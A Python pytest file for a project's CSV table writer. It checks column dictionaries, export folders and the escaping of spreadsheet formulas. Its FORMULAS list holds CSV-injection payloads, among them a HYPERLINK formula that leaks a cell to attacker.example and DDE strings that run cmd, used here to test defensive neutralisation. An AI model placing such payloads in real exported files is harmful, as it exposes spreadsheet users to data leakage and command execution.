"""analysis.report.tables: CSV plus a column dictionary that must match the frame."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from analysis import config
from analysis.report import tables


def test_write_table_and_dictionary(tmp_path):
    frame = pd.DataFrame({"doc_id": ["a", "b"], "n": [1, 2]})
    path = tables.write_table(frame, "demo", "One row per thing.", {"doc_id": "id", "n": "count"}, folder=tmp_path)
    assert path.read_text(encoding="utf-8") == "doc_id,n\na,1\nb,2\n"
    sidecar = json.loads((tmp_path / "demo.columns.json").read_text(encoding="utf-8"))
    assert sidecar["rows"] == 2 and sidecar["columns"] == {"doc_id": "id", "n": "count"}
    assert tables.column_dictionary(tmp_path)[0]["table"] == "demo.csv"


def test_undocumented_column_is_refused(tmp_path):
    with pytest.raises(ValueError, match="does not match"):
        tables.write_table(pd.DataFrame({"a": [1], "b": [2]}), "x", "d", {"a": "only a"}, folder=tmp_path)


def test_a_table_written_outside_the_build_is_kept_apart_from_the_builds(monkeypatch):
    # JupyterLab runs a notebook without the build's WORKBOOK_EXPORTS: its tables must not replace exports/tables.
    monkeypatch.delenv("WORKBOOK_EXPORTS", raising=False)
    assert config.tables_dir() == config.INTERACTIVE_EXPORTS_DIR / "tables"
    assert config.tables_dir() != config.DEFAULT_EXPORTS_DIR / "tables"
    monkeypatch.setenv("WORKBOOK_EXPORTS", str(config.DEFAULT_EXPORTS_DIR))
    assert config.tables_dir() == config.DEFAULT_EXPORTS_DIR / "tables"


#: Payloads that open as live formulas in Excel, LibreOffice or Google Sheets (OWASP, "CSV Injection").
FORMULAS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the full article")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
]


def test_formula_cells_are_neutralised_and_the_raw_text_is_recoverable(tmp_path):
    frame = pd.DataFrame({
        "title": FORMULAS + ["-0.5", "Ferry fares rise", "- a dash list item"],
        "score": [-0.5, 1.25, -3.0, 0.0, 2.0, -1.0, 7.0, -0.5, 0.5, 1.5],
        "start": list(range(10)),
    })
    path = tables.write_table(frame, "hostile", "Hostile titles.", {"title": "t", "score": "s", "start": "o"}, folder=tmp_path)
    import csv

    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    for row, raw in zip(rows, frame["title"]):
        if raw in {"-0.5", "Ferry fares rise"}:
            assert row["title"] == raw  # a plain number or plain text is written as it is
        else:
            assert row["title"] == "'" + raw, f"{raw!r} was written as {row['title']!r}"
            assert row["title"][0] == "'"  # a spreadsheet shows it as text
    assert [row["score"] for row in rows][:3] == ["-0.5", "1.25", "-3"]  # numbers stay numbers
    back = tables.read_table(path)
    assert list(back["title"]) == list(frame["title"]) and list(back["score"]) == list(frame["score"])


def test_neutralising_is_deterministic_and_leaves_safe_tables_byte_identical(tmp_path):
    frame = pd.DataFrame({"doc_id": ["000_a", "001_b"], "compound": [-0.25, 0.5], "text": ["=1+1", "Calm words."]})
    first = tables.write_table(frame, "one", "d", {"doc_id": "i", "compound": "c", "text": "t"}, folder=tmp_path / "a").read_bytes()
    second = tables.write_table(frame, "one", "d", {"doc_id": "i", "compound": "c", "text": "t"}, folder=tmp_path / "b").read_bytes()
    assert first == second == b"doc_id,compound,text\n000_a,-0.25,'=1+1\n001_b,0.5,Calm words.\n"
